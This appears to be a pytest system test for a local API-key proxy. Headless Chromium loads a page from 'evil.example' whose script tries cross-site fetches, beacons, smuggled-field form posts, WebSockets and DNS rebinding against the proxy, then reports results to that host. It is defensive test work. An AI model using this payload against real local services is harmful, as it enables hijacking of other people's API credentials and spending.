"""F1 with a real browser: pages of a stranger try everything that pages can, and not one call is paid for.

Needs Chromium (Debian: `chromium`). The browser's clock decides nothing here: each page says when it has tried everything.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import shutil
import subprocess
import threading
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from tests.rig.provider import FakeProvider
from tests.rig.proxy import SCRIPT, Mitmdump, free_port
from tests.trouble.test_web_pages import CALL, PATH, SPENDING

pytestmark = [pytest.mark.system, pytest.mark.long]

PATIENCE_S = 60
_FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--ignore-certificate-errors",
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessRespectPreflightResults",
)

_TRIES = """
const CALL = %(call)s, told = [];
const quietly = async (name, work) => {
  const limit = new Promise(done => setTimeout(() => done('no answer'), 5000));
  try { told.push([name, await Promise.race([work(), limit])]); } catch (error) { told.push([name, 'failed: ' + error]); }
};
const post = (url, more) => async () => { const got = await fetch(url, {method: 'POST', body: CALL, ...more});
  return got.type + ' ' + got.status + ' ' + (await got.text()).slice(0, 300); };
const socket = url => () => new Promise(done => { const one = new WebSocket(url);
  one.onopen = () => { one.send(JSON.stringify({type: 'response.create', model: 'm', input: 'hello'})); };
  one.onmessage = event => done('message ' + event.data); one.onclose = event => done('closed ' + event.code); });
const image = url => () => new Promise(done => { const one = new Image();
  one.onload = () => done('loaded'); one.onerror = () => done('failed'); one.src = url; });
const form = (url, kind) => () => new Promise(done => {
  const frame = document.createElement('iframe'), one = document.createElement('form'), field = document.createElement('input');
  frame.name = 'frame' + Math.random(); document.body.append(frame, one);
  Object.assign(one, {action: url, method: 'POST', enctype: kind, target: frame.name});
  field.name = CALL.slice(0, -1) + ',"x":"'; field.value = '"}'; one.append(field);
  frame.onload = () => done('loaded'); one.submit(); });
const everything = async bases => { for (const base of bases) {
  const url = base + '%(path)s';
  await quietly('no-cors ' + url, post(url, {mode: 'no-cors'}));
  await quietly('with credentials ' + url, post(url, {mode: 'no-cors', credentials: 'include'}));
  await quietly('cors ' + url, post(url, {headers: {'content-type': 'application/json'}}));
  await quietly('keepalive ' + url, post(url, {mode: 'no-cors', keepalive: true}));
  await quietly('beacon ' + url, async () => navigator.sendBeacon(url, CALL));
  await quietly('form ' + url, form(url, 'text/plain'));
  await quietly('multipart ' + url, form(url, 'multipart/form-data'));
  await quietly('image ' + url, image(url));
  await quietly('socket ' + base, socket(base.replace('http', 'ws') + '/v1/responses'));
} };
const report = () => fetch('%(report)s', {method: 'POST', mode: 'no-cors', body: JSON.stringify(told)});
"""


class Stranger:
    """A web server whose pages run a script; it hears what the script reports."""

    def __init__(self, port: int = 0) -> None:
        self.script = ""
        self.visited = threading.Event()
        self.may_go = threading.Event()
        self.reports: list[list[list[str]]] = []
        self.reported = threading.Event()
        stranger = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path.endswith("/go"):
                    self._say(b"go" if stranger.may_go.is_set() else b"wait", "text/plain")
                else:
                    page = f"<!doctype html><title>x</title><body><script>{stranger.script}</script>"
                    self._say(page.encode() if self.path.endswith("/") else b"", "text/html")
                    stranger.visited.set()

            def do_POST(self) -> None:
                said = self.rfile.read(int(self.headers.get("content-length") or 0))
                if self.path.endswith("/report"):
                    stranger.reports.append(json.loads(said))
                    stranger.reported.set()
                self._say(b"", "text/plain")

            def _say(self, body: bytes, kind: str) -> None:
                self.send_response(200)
                for name, value in (("content-type", kind), ("content-length", str(len(body))), ("connection", "close")):
                    self.send_header(name, value)
                self.send_header("access-control-allow-origin", "*")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@contextlib.contextmanager
def browser(folder: Path, url: str, rules: str, flags: Sequence[str] = ()) -> Iterator[None]:
    program = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    assert program is not None, "the long profile needs Chromium"
    command = [program, *_FLAGS, f"--user-data-dir={folder / 'profile'}", f"--host-resolver-rules={rules}", *flags, url]
    with (folder / "browser.log").open("wb") as log:
        running = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=log, stderr=log)
        try:
            yield
        finally:
            running.terminate()
            try:
                running.wait(10)
            except subprocess.TimeoutExpired:
                running.kill()
                running.wait(10)


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    server = Stranger()
    yield server
    server.close()


def script(stranger: Stranger, then: str) -> str:
    filled = {"call": json.dumps(CALL.decode()), "path": PATH, "report": f"http://evil.example:{stranger.port}/report"}
    return _TRIES % filled + then


def tell(reports: list[list[list[str]]]) -> dict[str, str]:
    told = {name: str(what) for name, what in reports[0]}
    for name, what in told.items():
        print(f"{name}: {what[:110]}")
    return told


def spent(provider: FakeProvider) -> list[str]:
    return [received.key or "" for received in provider.requests if "six-key" in (received.key or "")]


@pytest.mark.parametrize("mode", [None, "reverse:https://api.openai.com"], ids=["regular", "reverse"])
def test_a_strangers_page(provider: FakeProvider, stranger: Stranger, tmp_path: Path, mode: str | None) -> None:
    """Straight to the port, by every name of this machine."""
    with Mitmdump(script=SCRIPT, config=SPENDING, upstream=provider, folder=tmp_path / "proxy", mode=mode) as proxy:
        bases = [f"http://{name}:{proxy.port}" for name in ("localhost", "127.0.0.1", "rebound.example")]
        stranger.script = script(stranger, f"everything({json.dumps(bases)}).then(report);")
        with browser(tmp_path, f"http://evil.example:{stranger.port}/", "MAP *.example 127.0.0.1"):
            assert stranger.reported.wait(PATIENCE_S), (tmp_path / "browser.log").read_text()[-2000:]
        told = tell(stranger.reports)
        assert len(told) == 9 * len(bases)
        assert spent(provider) == []
        assert not any(what.startswith("message") for what in told.values())
        if mode is None:
            assert provider.connections == []
        assert proxy.log.count("400 Bad Request") >= 2 * len(bases), "the browser did come through"


def test_dns_rebinding(provider: FakeProvider, stranger: Stranger, tmp_path: Path) -> None:
    """A page of the very origin under which the proxy then answers: the browser calls it the same, and hides nothing."""
    port = free_port()
    first = Stranger(port)
    go = f"http://evil.example:{stranger.port}/go"
    waits = f"""
      const again = async () => (await (await fetch('{go}')).text()) === 'go' ? everything([location.origin]).then(report)
        : setTimeout(again, 100);
      again();"""
    first.script = script(stranger, waits)
    with browser(tmp_path, f"http://rebound.example:{port}/", "MAP *.example 127.0.0.1"):
        try:
            assert first.visited.wait(PATIENCE_S), (tmp_path / "browser.log").read_text()[-2000:]
        finally:
            first.close()
        with Mitmdump(script=SCRIPT, config=SPENDING, upstream=provider, folder=tmp_path / "proxy", port=port) as proxy:
            stranger.may_go.set()
            assert stranger.reported.wait(PATIENCE_S), (tmp_path / "browser.log").read_text()[-2000:]
            told = tell(stranger.reports)
            assert "HTTPS_PROXY" in told[f"no-cors http://rebound.example:{port}{PATH}"], "it was the same origin"
            assert spent(provider) == []
            assert provider.connections == []
            assert proxy.log.count("400 Bad Request") >= 5


def test_a_browser_that_uses_the_proxy(provider: FakeProvider, stranger: Stranger, tmp_path: Path) -> None:
    """Pages' calls of models go where they were going, as they are, and with no key of ours; nothing reaches ourselves."""
    played: Any = {"evil.example": (stranger.port, stranger.port), "*": provider}
    with Mitmdump(script=SCRIPT, config=SPENDING, upstream=played, folder=tmp_path / "proxy", web=True) as proxy:
        selves = [f"http://127.0.0.1:{proxy.port}", f"http://localhost:{proxy.web_port}"]
        bases = ["https://api.openai.com", "http://api.openai.com", *selves]
        stranger.script = script(stranger, f"everything({json.dumps(bases)}).then(report);").replace(f":{stranger.port}/", "/")
        flags = [f"--proxy-server=http://127.0.0.1:{proxy.port}", "--proxy-bypass-list=<-loopback>"]
        with browser(tmp_path, "http://evil.example/", "", flags):
            assert stranger.reported.wait(PATIENCE_S), (tmp_path / "browser.log").read_text()[-2000:]
        tell(stranger.reports)
        calls = [received for received in provider.requests if received.path == PATH and received.method == "POST"]
        assert len(calls) >= 6, "the browser did come through"
        assert spent(provider) == []
        assert {received.host for received in calls} <= {"api.openai.com"}
        assert sum(received.body == CALL for received in calls) >= 4
